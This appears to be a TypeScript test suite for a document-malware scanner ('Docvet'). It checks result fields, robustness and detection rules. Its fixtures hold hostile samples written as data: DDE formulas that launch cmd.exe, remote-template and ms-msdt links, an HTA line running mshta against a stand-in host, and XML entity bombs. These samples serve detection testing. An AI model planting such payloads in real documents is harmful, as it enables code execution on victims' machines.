/** Properties of every inspection. */

import assert from 'node:assert/strict'
import { after, before, suite, test } from 'node:test'
import { safeName } from './core/names.ts'
import type { Inspector } from './inspect.ts'
import { assertCheap } from './testing/cpu-time.ts'
import { ourInspector } from './testing/inspector.ts'
import { docx, EICAR, pdf } from './testing/samples.ts'
import { writeZip } from './testing/zip-writer.ts'

let inspector: Inspector
before(async () => {
  inspector = await ourInspector()
})
after(() => inspector.dispose())

test('a clean document has exactly these fields', () => {
  const bytes = writeZip([{ name: 'a.txt', data: 'Good morning' }])
  assert.deepEqual(inspector.inspect(bytes), {
    kind: 'zip',
    type: 'application/zip',
    findings: [],
    obstacle: null,
    bytesInspected: bytes.length + 12,
    entries: 1,
  })
})

test('a finding has exactly these fields', () => {
  const [finding] = inspector.inspect(writeZip([{ name: 'eicar.com', data: EICAR }])).findings
  assert.deepEqual(finding, {
    id: 'Docvet.Test.Eicar',
    severity: 'malicious',
    title: 'EICAR test file',
    reason: 'The document contains the EICAR test string. It is harmless; scanners report it to show that they work.',
    technique: null,
    path: ['eicar.com'],
    detail: null,
  })
})

test('empty input and every single byte get a result', () => {
  assert.equal(inspector.inspect(new Uint8Array()).kind, null)
  for (let byte = 0; byte < 256; byte++) assert.equal(inspector.inspect(Uint8Array.of(byte)).findings.length, 0)
})

test('the same document gives the same result, also after its buffer was overwritten', () => {
  const bytes = docx({ 'word/a.txt': EICAR })
  const first = inspector.inspect(bytes)
  assert.deepEqual(inspector.inspect(new Uint8Array(bytes)), first)
  bytes.fill(0)
  assert.equal(first.findings[0]?.id, 'Docvet.Test.Eicar')
})

test('results are not cached across documents in the same buffer', () => {
  const memory = Buffer.alloc(EICAR.length, 'a')
  assert.deepEqual(inspector.inspect(memory).findings, [])
  memory.set(Buffer.from(EICAR))
  assert.equal(inspector.inspect(memory).findings[0]?.id, 'Docvet.Test.Eicar')
})

test('at most one hundred findings are reported, the most severe first', () => {
  const entries = Array.from({ length: 1000 }, (_, i) => ({ name: `../${i}`, data: i % 2 ? EICAR : 'x' }))
  const { findings } = inspector.inspect(writeZip(entries))
  assert.equal(findings.length, 100)
  assert.equal(findings[0]?.severity, 'malicious')
})

test('a failing analyser never makes a document clean', () => {
  const broken = new Proxy(docx(), {
    get(target, key) {
      if (key === 'subarray') throw new Error('broken on purpose')
      return Reflect.get(target, key, target)
    },
  })
  const { obstacle, kind } = inspector.inspect(broken)
  assert.equal(kind, null)
  assert.equal(obstacle?.reason, 'damaged')
  assert.match(obstacle.detail, /broken on purpose/)
  assert.equal(inspector.healthy, true)
})

test('a failing analyser does not stop the others, and the document is not clean', () => {
  // With the mark of programs, for which `lastIndexOf` is called.
  const document = Buffer.concat([docx({ 'word/a.txt': EICAR }), Buffer.from('PE\0\0')])
  const broken = new Proxy(document, {
    get(target, key) {
      if (key === 'lastIndexOf') throw new Error('broken on purpose')
      const value = Reflect.get(target, key, target)
      return typeof value === 'function' ? value.bind(target) : value
    },
  })
  const { obstacle, findings } = inspector.inspect(broken)
  assert.deepEqual([obstacle?.reason, obstacle?.path], ['damaged', []])
  assert.match(obstacle?.detail ?? '', /^It could not be analysed \(broken on purpose\)/)
  assert.deepEqual(findings[0]?.path, ['word/a.txt'])
})

suite('hostile repetition takes little CPU time', () => {
  const repeated: [string, string, string][] = [
    ['the start of programs', '', 'MZ'],
    ['streams of a PDF without end', '%PDF-1.4\n', 'stream\n'],
    ['references to an encryption', '%PDF-1.4\n', ' /Encrypt 1 0 R '],
    ['parts of a mail', 'From: a\n', 'Content-Transfer-Encoding: base64\n\n'],
    ['local headers', '', 'PK\x03\x04'],
    ['end records', '', 'PK\x05\x06'],
    ['fields', '', 'instrText instrText>DDE'],
    ['one letter', '', 'a'],
  ]
  for (const [name, start, pattern] of repeated) {
    test(name, () => {
      const bytes = Buffer.alloc(8_000_000, pattern, 'latin1')
      bytes.write(start, 0, 'latin1')
      assertCheap(() => inspector.inspect(bytes))
    })
  }
})

suite('each rule finds its technique', () => {
  const rels = (type: string, target: string): string =>
    `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`
  type Case = [string, string, Uint8Array]
  const cases: Case[] = [
    [
      'Docvet.Ooxml.DdeField',
      'malicious',
      docx({ 'word/document.xml': '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\x "y"</w:instrText>' }),
    ],
    [
      'Docvet.Ooxml.RemoteTemplate',
      'malicious',
      docx({ 'word/_rels/settings.xml.rels': rels('attachedTemplate', 'http://192.0.2.1/a.dotm') }),
    ],
    [
      'Docvet.Ooxml.RemoteTemplate',
      'malicious',
      docx({ 'word/_rels/settings.xml.rels': rels('attachedTemplate', '&#92;\\files.invalid\\a.dotm') }),
    ],
    [
      'Docvet.Ooxml.FileServerReference',
      'suspicious',
      docx({ 'word/_rels/settings.xml.rels': rels('image', 'file:///\\\\files.example.com\\a.png') }),
    ],
    [
      'Docvet.Ooxml.WebTemplate',
      'suspicious',
      docx({ 'word/_rels/settings.xml.rels': rels('attachedTemplate', 'https://templates.invalid/a.dotx') }),
    ],
    [
      'Docvet.Ooxml.RemoteObject',
      'malicious',
      docx({ 'word/_rels/document.xml.rels': rels('oleObject', 'mhtml:http://x.invalid/a!x-usc:http://x.invalid/a') }),
    ],
    [
      'Docvet.Link.Troubleshooter',
      'malicious',
      docx({ 'word/_rels/document.xml.rels': rels('hyperlink', 'ms-msdt:/id x') }),
    ],
    [
      'Docvet.Ooxml.ProgramAction',
      'malicious',
      docx({ 'ppt/slides/slide1.xml': '<a:hlinkMouseOver action="ppaction://program"/>' }),
    ],
    ['Docvet.Sheet.DdeCommand', 'malicious', Buffer.from("=cmd|'/c calc'!A0\n")],
    [
      'Docvet.Sheet.DdeCommand',
      'malicious',
      Buffer.from("a\n=MSEXCEL|'\\..\\Windows\\System32\\cmd.exe /c calc'!A1\n"),
    ],
    ...['DDE', ' DDE', 'DDEAUTO', ' DDEAUTO'].map(
      (field): Case => [
        'Docvet.Ooxml.DdeField',
        'malicious',
        docx({ 'word/document.xml': `<w:fldSimple w:instr='${field} x y '/>` }),
      ],
    ),
    [
      'Docvet.Rtf.EquationEditor',
      'malicious',
      Buffer.from('{\\rtf1{\\object{\\*\\objclass Equation.3}{\\*\\objdata 01}}}'),
    ],
    ['Docvet.Rtf.DdeField', 'malicious', Buffer.from('{\\rtf1{\\field{\\*\\fldinst DDEAUTO x y}}}')],
    [
      'Docvet.Script.HostedProgram',
      'malicious',
      Buffer.from(
        '<html><hta:application><script>new ActiveXObject("WScript.Shell").Run("mshta http://a.example/")</script>',
      ),
    ],
    [
      'Docvet.Embedded.Shortcut',
      'malicious',
      writeZip([
        { name: 'a.pdf.lnk', data: Buffer.from('4c0000000114020000000000c000000000000046'.padEnd(160, '0'), 'hex') },
      ]),
    ],
    [
      'Docvet.Bomb.Entities',
      'malicious',
      docx({ 'word/document.xml': '<!DOCTYPE a [<!ENTITY b "&a;&a;&a;&a;&a;&a;">]>' }),
    ],
    [
      'Docvet.Bomb.Entities',
      'malicious',
      Buffer.from(`<!DOCTYPE a [${'<!ENTITY a "a">'.repeat(300)}<!ENTITY ${' '.repeat(2000)}b "&a;&a;&a;&a;&a;&a;">]>`),
    ],
    [
      'Docvet.Bomb.Entities',
      'malicious',
      Buffer.from('\ufeff<!DOCTYPE a [<!ENTITY b "&a;&a;&a;&a;&a;&a;">]>', 'utf16le'),
    ],
  ]
  for (const [id, severity, bytes] of cases) {
    test(`${id} (${severity})`, () => {
      const found = inspector.inspect(bytes).findings.find((finding) => finding.id === id)
      assert.equal(found?.severity, severity)
    })
  }
  test('no rule matches similar harmless documents', () => {
    const harmless = [
      docx({ 'word/document.xml': '<w:instrText> DATE \\@ "d.M.yyyy" </w:instrText><w:t>DDEAUTO is a field.</w:t>' }),
      docx({ 'word/_rels/settings.xml.rels': rels('attachedTemplate', 'file:///C:\\Users\\a\\Normal.dotm') }),
      docx({ 'word/_rels/document.xml.rels': rels('hyperlink', 'https://example.org/') }),
      Buffer.from('-1,+2,@x,=A1+B1\n=SUM(A1:A2)\n'),
      Buffer.from("=MSEXCEL|'book.xlsx'!A1\n"),
      Buffer.from('<html><script>const blob = new Blob(["x"]); URL.createObjectURL(blob)</script></html>'),
      pdf(['<< /Type /Catalog >>']),
    ]
    for (const bytes of harmless) {
      const { findings } = inspector.inspect(bytes)
      assert.deepEqual(
        findings.filter(({ severity }) => severity !== 'notice'),
        [],
      )
    }
  })
})

test('a name without visible characters gets a placeholder', () => {
  assert.equal(safeName('\u0000\u202e'), '(no name)')
  assert.equal(safeName('a'.repeat(255)), 'a'.repeat(255))
  assert.equal(safeName('a'.repeat(256)).length, 255)
})
